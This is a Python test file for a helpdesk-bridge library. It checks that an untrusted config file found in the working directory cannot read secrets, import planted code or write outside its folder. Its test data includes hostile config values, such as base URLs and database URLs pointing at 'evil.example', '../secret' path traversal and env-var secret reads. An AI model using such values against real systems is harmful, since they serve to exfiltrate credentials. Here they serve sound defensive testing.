"""A file that was only found in the working directory reaches for nothing outside of itself."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from helpdesk_bridge.config import load_config
from helpdesk_bridge.desk import connect
from helpdesk_bridge.errors import ConfigurationError
from helpdesk_bridge.testing import FaultServer

SECRET = "Zq7XvB2mKp9LwT4sRdYc8"
POSIX = pytest.mark.skipif(not hasattr(os, "geteuid"), reason="needs owners and modes")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Go to a folder that came with a download; no other configuration is anywhere."""
    place = tmp_path / "download"
    place.mkdir()
    monkeypatch.chdir(place)
    for name in [one for one in os.environ if one.startswith("HELPDESK_BRIDGE")]:
        monkeypatch.delenv(name)
    for name in ("XDG_CONFIG_HOME", "APPDATA", "HOME"):
        monkeypatch.setenv(name, str(tmp_path / "user"))
    monkeypatch.setenv("VICTIM", SECRET)
    (tmp_path / "secret").write_text(SECRET)
    return place


def write(folder: Path, *lines: str, name: str = "support") -> Path:
    path = folder / "helpdesk.toml"
    path.write_text("\n".join([f"[desks.{name}]", *lines, ""]))
    return path


VENDOR = ('adapter = "omnidesk"', 'timezone = "UTC"', 'base_url = "https://evil.example"')
AIRCLOU = ('adapter = "airclou"', 'api_key = "k"', 'workspace_id = "w"')
REACHING = {
    "a variable": (*VENDOR, 'api_key = { env = "VICTIM" }'),
    "a variable of any key": (*VENDOR, 'api_key = "k"', 'user_id = { env = "VICTIM" }'),
    "a file": (*VENDOR, 'api_key = { file = "../secret" }'),
    "a file beside it": (*VENDOR, 'api_key = { file = "secret" }'),
    "code": (*AIRCLOU, 'session_provider = "planted:run"'),
    "code of a limiter": (*VENDOR, 'api_key = "k"', 'transport.limiter = "planted:run"'),
    "code for TLS": (*VENDOR, 'api_key = "k"', 'transport.tls = "planted:run"'),
    "a variable of the transport": (*VENDOR, 'api_key = "k"', 'transport.proxy = {env = "VICTIM"}'),
    "a path above": ('adapter = "memory"', 'path = "../desk.db"'),
    "a path of the home": ('adapter = "memory"', 'path = "~/desk.db"'),
    "an absolute path": ('adapter = "memory"', 'path = "/var/tmp/desk.db"'),
    "a ledger above": ('adapter = "memory"', 'ledger = "../writes.db"'),
    "a file by its URL": ('adapter = "memory"', 'ledger = "sqlite+aiosqlite:////tmp/x.db"'),
    "a database": ('adapter = "memory"', 'ledger = "postgresql+asyncpg://x@evil.example/db"'),
    "a database of any kind": ('adapter = "memory"', 'ledger = "any+thing://evil.example/db"'),
    "a file in its folder by its URL": ('adapter = "memory"', 'ledger = "sqlite:///x.db"'),
    "a ledger's variable": ('adapter = "memory"', 'ledger = { env = "VICTIM" }'),
}


@pytest.mark.parametrize("case", REACHING)
def test_it_may_reach_for_nothing(folder: Path, case: str) -> None:
    path = write(folder, *REACHING[case])
    (folder / "planted.py").write_text("raise SystemExit('imported')")
    with pytest.raises(ConfigurationError) as caught:
        connect("support")
    text = str(caught.value)
    assert "only found in the working directory" in text
    assert f"HELPDESK_BRIDGE_CONFIG={path}" in text
    assert "config=" in text
    assert SECRET not in text
    assert "planted" not in sys.modules


@pytest.mark.parametrize(
    ("key", "place"),
    [
        ("API_KEY", "[desks.support] api_key"),
        ("TRANSPORT__PROXY", "[desks.support.transport] proxy"),
        ("ADAPTER", "[desks.support] adapter"),
        ("LEDGER", "[desks.support] ledger"),
    ],
)
def test_no_variable_is_given_to_it(
    folder: Path, monkeypatch: pytest.MonkeyPatch, key: str, place: str
) -> None:
    write(folder, *VENDOR, 'api_key = "k"')
    monkeypatch.setenv(f"HELPDESK_BRIDGE__SUPPORT__{key}", SECRET)
    with pytest.raises(ConfigurationError, match="only found in the working directory") as caught:
        connect("support")
    assert SECRET not in str(caught.value)
    assert f"environment variable HELPDESK_BRIDGE__SUPPORT__{key} ({place}): a file " in str(
        caught.value
    )
    assert "may not have its values replaced by the environment's: " in str(caught.value)


@pytest.mark.asyncio
async def test_a_host_of_its_choosing_sees_nothing(folder: Path) -> None:
    async with FaultServer() as server:
        write(folder, *VENDOR[:2], f'base_url = "{server.url}"', 'api_key = { env = "VICTIM" }')
        with pytest.raises(ConfigurationError):
            async with connect("support") as desk:
                await desk.ticket("1")
    assert server.requests == []


@pytest.mark.parametrize(
    "lines",
    [
        (*VENDOR, 'api_key = "k"'),
        ('adapter = "memory"',),
        ('adapter = "memory"', 'path = "data/desk.db"', 'ledger = "writes.db"'),
    ],
)
def test_values_and_paths_below_its_folder_are_its_own(
    folder: Path, lines: tuple[str, ...]
) -> None:
    write(folder, *lines)
    assert load_config().desk("support").name == "support"


@pytest.mark.asyncio
@pytest.mark.parametrize("key", ["ledger", "path"])
@pytest.mark.parametrize(
    ("place", "says"), [("../out.db", "the (ledger|database) "), ("{outside}", "and no URL")]
)
async def test_a_name_that_looks_like_a_uri_leads_nowhere_else(
    folder: Path, tmp_path: Path, key: str, place: str, says: str
) -> None:
    outside = tmp_path / "out.db"
    write(folder, 'adapter = "memory"', f'{key} = "file:{place.format(outside=outside)}"')
    with pytest.raises(ConfigurationError, match=says):
        async with connect("support") as desk:
            await desk.create_ticket(subject="S", requester="li@acme.example", text="Help.")
    assert not outside.exists()


@pytest.mark.parametrize("how", ["argument", "relative argument", "variable", "user's folder"])
def test_a_file_that_was_named_may_ask_for_all(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    path = write(folder, *VENDOR, 'api_key = { env = "VICTIM" }')
    source: Path | str | None = None
    if how == "argument":
        source = path
    elif how == "relative argument":
        source = "helpdesk.toml"
    elif how == "variable":
        monkeypatch.setenv("HELPDESK_BRIDGE_CONFIG", str(path))
    else:
        own = tmp_path / "user" / "helpdesk_bridge"
        own.mkdir(parents=True)
        path.rename(own / "helpdesk.toml")
        monkeypatch.setattr("sys.platform", "linux")
    monkeypatch.setenv("HELPDESK_BRIDGE__SUPPORT__USER_ID", "7")
    settings = load_config(source).desk("support").settings
    assert settings.api_key.reveal() == SECRET
    assert settings.user_id == "7"


def test_the_users_own_folder_is_no_strange_one_to_work_in(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.platform", "linux")
    own = tmp_path / "user" / "helpdesk_bridge"
    own.mkdir(parents=True)
    write(own, *VENDOR, 'api_key = { env = "VICTIM" }')
    monkeypatch.chdir(own)
    assert load_config().desk("support").settings.api_key.reveal() == SECRET


@POSIX
@pytest.mark.parametrize("where", ["working directory", "user's folder"])
@pytest.mark.parametrize("doubt", ["owner", "mode"])
def test_a_found_file_that_others_could_write_is_refused(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, doubt: str
) -> None:
    monkeypatch.setattr("sys.platform", "linux")
    place = folder if where == "working directory" else tmp_path / "user" / "helpdesk_bridge"
    place.mkdir(parents=True, exist_ok=True)
    path = write(place, 'adapter = "memory"')
    path.chmod(0o666 if doubt == "mode" else 0o644)
    if doubt == "owner":
        owner = path.stat().st_uid
        monkeypatch.setattr(os, "geteuid", lambda: owner + 1)
        if owner == 0:  # root's files are trusted: have another own it
            os.chown(path, 12345, -1)
    with pytest.raises(ConfigurationError, match=r"was only found, and (it belongs|every user)"):
        load_config()
    assert load_config(path).desks == ["support"]


@POSIX
@pytest.mark.parametrize("way", ["symbolic link", "hard link"])
def test_a_link_to_the_users_own_file_reads_what_lies_beside_that_file(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    monkeypatch.setattr("sys.platform", "linux")
    own = tmp_path / "user" / "helpdesk_bridge"
    own.mkdir(parents=True)
    path = write(own, *VENDOR, 'api_key = { file = "token" }', 'ledger = "writes.db"')
    (own / "token").write_text(SECRET)
    (folder / "token").write_text("planted")
    if way == "hard link":
        (folder / "helpdesk.toml").hardlink_to(path)
    else:
        (folder / "helpdesk.toml").symlink_to(path)
    config = load_config()
    desk = config.desk("support")
    assert config.origin == str(path)
    assert desk.settings.api_key.reveal() == SECRET
    assert desk.ledger is not None
    assert desk.ledger.reveal() == str(own / "writes.db")


class TestWithoutAHome:
    """A process without HOME, of a user whom the machine does not know."""

    @pytest.fixture(autouse=True)
    def homeless(self, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        def no_home(_: str) -> str:
            return "~"

        for name in ("XDG_CONFIG_HOME", "APPDATA", "HOME"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setattr(os.path, "expanduser", no_home)

    @pytest.mark.parametrize("platform", ["linux", "darwin", "win32"])
    def test_the_file_in_the_working_directory_is_found(
        self, folder: Path, monkeypatch: pytest.MonkeyPatch, platform: str
    ) -> None:
        monkeypatch.setattr("sys.platform", platform)
        with pytest.raises(ConfigurationError, match=r"looked for helpdesk\.toml\)"):
            load_config()
        write(folder, 'adapter = "memory"')
        assert load_config().desk("support").name == "support"

    @pytest.mark.parametrize("key", ["path", "ledger"])
    def test_a_path_below_it_is_told(self, folder: Path, key: str) -> None:
        path = write(folder, 'adapter = "memory"', f'{key} = "~/desk.db"')
        with pytest.raises(ConfigurationError, match=f"{key}: .*no home directory"):
            load_config(path).desk("support")

    def test_a_file_of_a_secret_below_it_is_told(self, folder: Path) -> None:
        path = write(folder, *VENDOR, 'api_key = { file = "~/token" }')
        with pytest.raises(ConfigurationError, match="needs the file ~/token"):
            load_config(path).desk("support")
